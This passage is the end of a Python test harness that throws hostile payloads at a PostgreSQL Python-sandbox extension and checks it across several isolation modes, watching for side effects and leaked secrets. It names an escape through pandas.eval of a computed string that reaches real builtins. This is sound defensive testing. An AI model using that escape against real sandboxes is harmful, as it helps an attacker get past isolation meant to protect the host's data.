        expect("same code, math no longer allowed", run(uses_math), ("42501", False))
        server.cur.execute("RESET pysandbox.allowed_modules")
        expect("same code, allowlist back", run(uses_math), ({"main": 2}, True))
        expect("rejected code", run(uses_os), ("42501", False))
        expect("rejected code again", run(uses_os), ("42501", False))
        rows = "import pandas as pd\ndef main():\n    return pd.DataFrame({'x': [1, 2]})\n"
        expect("sandbox_rows", run_rows(rows), ([(1,), (2,)], False))
        expect("sandbox_rows again", run_rows(rows), ([(1,), (2,)], True))
        # eight codes are remembered: the ninth pushes out the least recently used
        for i in range(8):
            run("def main():\n    return %d\n" % i)
        expect("a code pushed out", run(uses_math), ({"main": 2}, False))
        expect("a code kept", run("def main():\n    return 7\n"), ({"main": 7}, True))
        # a workspace's child ran other code before: its word is not taken
        server.cur.execute("SELECT sandbox_workspace_open()")
        ws = server.cur.fetchone()[0]
        in_ws = "def main():\n    return 11\n"
        server.cur.execute("SELECT sandbox_execute(%s, '{}', '{main}', %s)",
                           (in_ws, json.dumps({"workspace": ws})))
        expect("code a workspace ran, outside it", run(in_ws), ({"main": 11}, False))
        server.cur.execute("SELECT sandbox_workspace_close(%s)", (ws,))
        server.set_python_layer(False)
        expect("the Python layer off", run(uses_os), ({"main": "posix"}, False))
        server.set_python_layer(True)
        expect("the Python layer back on", run(uses_os), ("42501", False))
    finally:
        server.cur.execute("RESET client_min_messages")
        server.cur.execute("RESET pysandbox.allowed_modules")
        server.set_python_layer(True)
    if problems:
        print("FAIL validated-code memo: " + "; ".join(problems), flush=True)
        return False
    print("ok   the validator is skipped only for code that passed it under the same "
          "allowlist, never after a call with the Python layer off", flush=True)
    return True


# --------------------------------------------------------------------------
# running

LAYER_OFF_MODES = ("off", "mount", "landlock")


def bypass_code(payload, inputs):
    names = sorted(inputs)
    return BYPASS_TEMPLATE.format(source=payload.code, params=", ".join(names),
                                  inputs=", ".join("%r: %s" % (n, n) for n in names))


def probe(server, target, mode):
    """Can this mode run code at all (and reach real builtins)?"""
    if mode in LAYER_OFF_MODES:
        code = "import os\ndef main():\n    return [callable(open), os.name]\n"
        wanted = {"main": [True, "posix"]}
    else:
        code = bypass_code(Payload("probe", "def main():\n    return callable(open)\n"),
                           target.inputs())
        wanted = {"main": True}
    sqlstate, message, _detail, _texts, result, _ms = server.call(code, target.inputs(), {})
    return result == wanted, "%s %s" % (sqlstate, message) if sqlstate else repr(result)


# As a function body, a payload's module-level names are the function's
# locals: they go when it returns, before the result is sent (a generator
# kept "alive" then runs its finally, and the call meets its limit)
# a function's result is rows, not the JSON a forged RESULT frame holds
LANGUAGE_OUTCOMES = {"finalizer-after-result": {TIMEOUT, CPU},
                     "protocol-result-then-hold-the-socket-open": {CRASH},
                     "protocol-result-then-spin": {CRASH},
                     "sql-streamed-answer-forged-result-midway": {OK}}
# in a workspace the first complete result ends a call, as it does a held
# function call's: what the child sends after it ends the workspace, at its
# next use ("wrote between two calls"), instead of failing this call; a
# child idle after its result is what a workspace keeps
WORKSPACE_OUTCOMES = {"protocol-two-results": {OK}, "sql-after-result": {OK},
                      "protocol-result-then-hold-the-socket-open": {OK},
                      "protocol-result-then-spin": {OK},
                      "sql-streamed-answer-forged-result-midway": {OK},
                      # a held child's socket stays open: the frame waits
                      # for the rest of its bytes until the call's limit
                      "protocol-truncated-frame-then-linger": {TIMEOUT}}


def run_one(server, target, payload, mode):
    inputs = dict(target.inputs(), **payload.inputs)
    code = bypass_code(payload, inputs) if mode == "bypass" else payload.code
    server.role = server.ORDINARY if payload.role == "ordinary" else None
    try:
        sqlstate, message, detail, texts, _result, ms = server.call(code, inputs,
                                                                    payload.options)
    finally:
        server.role = None
    label = classify(sqlstate, message, detail)
    problems = []
    expect = payload.expect[mode]
    if server.via == "language":
        expect = expect | LANGUAGE_OUTCOMES.get(payload.name, set())
    if server.via == "workspace":
        expect = expect | WORKSPACE_OUTCOMES.get(payload.name, set())
    if label not in expect:
        problems.append("outcome %s, expected one of %s" % (
            label, ", ".join(sorted(expect))))
    if payload.max_ms is not None and ms > payload.max_ms:
        problems.append("the call took %.0f ms, more than %d ms" % (ms, payload.max_ms))
    problems += target.side_effects()
    problems += server.health(texts, target.secret)
    shown = (message or "").replace("\n", " ")[:100]
    print("%-4s %-6s %-36s %-5s %-10s %6.0fms  %s" % (
        "ok" if not problems else "FAIL", mode, payload.name, sqlstate or "-",
        label, ms, shown), flush=True)
    for p in problems:
        print("       ! " + p, flush=True)
    return not problems


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--modes", default="on,off,bypass,mount,landlock")
    parser.add_argument("--only", default="", help="run payloads whose name contains this")
    parser.add_argument("--via", default="execute", choices=("execute", "language", "workspace"),
                        help="run each payload through sandbox_execute, as a "
                             "LANGUAGE pysandbox function, or in a workspace")
    args = parser.parse_args()
    if os.geteuid() != 0:
        print("hostile: run as root (the checks read /proc and the server log)")
        return 2

    started = time.monotonic()
    try:
        server = Server()
    except psycopg2.OperationalError as exc:
        print("hostile: cannot connect (is the test cluster running?): %s" % exc)
        print("hostile: 0 passed, 1 failed")
        return 1
    target = Target()
    passed = failed = 0
    payloads = [p for p in PAYLOADS if args.only in p.name and
                (args.via == "execute" or not p.inputs)]
    print("hostile: %d payloads, backend %d, postmaster %d, secret in %s and %s"
          % (len(payloads), server.backend, server.postmaster,
             target.canary_data, target.canary_tmp), flush=True)
    if platform.machine() == "x86_64" and not IA32_ENTRY:
        print("note: this kernel serves no int 0x80 (ia32 emulation is off): the i386 "
              "payload can only fault", flush=True)
    try:
        for check in (self_check(server, target), validated_memo_check(server)):
            if check:
                passed += 1
            else:
                failed += 1
        server.via = args.via
        server.ordinary_role()
        for mode in args.modes.split(","):
            server.set_python_layer(mode not in LAYER_OFF_MODES)
            server.set_filesystem_layer({"mount": "mount_namespace",
                                         "landlock": "landlock"}.get(mode, "auto"))
            if mode != "on":
                works, what = probe(server, target, mode)
                if mode in LAYER_OFF_MODES and not works:
                    print("FAIL %s: the Python layer switched off does not run "
                          "code (%s); the mode is skipped" % (mode, what[:200]), flush=True)
                    failed += 1
                    continue
                if mode == "bypass":
                    if not works:
                        print("note: the pandas.eval escape no longer reaches the real "
                              "builtins (%s); bypass mode skipped" % what[:120], flush=True)
                        continue
                    print("note: the Python layer can be escaped (pandas.eval of a "
                          "computed string): running every payload with real builtins",
                          flush=True)
            mode_start = time.monotonic()
            for payload in payloads:
                if run_one(server, target, payload, mode):
                    passed += 1
                else:
                    failed += 1
            print("-- mode %s took %.1f s" % (mode, time.monotonic() - mode_start), flush=True)
        if "off" in args.modes.split(",") and args.via == "execute":
            scenario_start = time.monotonic()
            got_passed, got_failed = floor_scenarios.run_all(args.only)
            passed += got_passed
            failed += got_failed
            problems = server.health([], target.secret)
            if problems:
                print("FAIL after the scenarios: " + "; ".join(problems), flush=True)
                failed += 1
            print("-- scenarios took %.1f s" % (time.monotonic() - scenario_start), flush=True)
        time.sleep(0.2)     # a late signal or connection still counts
        late = target.side_effects()
        if late:
            print("FAIL after all payloads: " + "; ".join(late), flush=True)
            failed += 1
    finally:
        try:
            server.set_python_layer(True)
            server.set_filesystem_layer("auto")
        except psycopg2.Error:
            pass
        target.close()
    print("hostile: finished in %.1f s" % (time.monotonic() - started))
    print("hostile: %d passed, %d failed" % (passed, failed))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
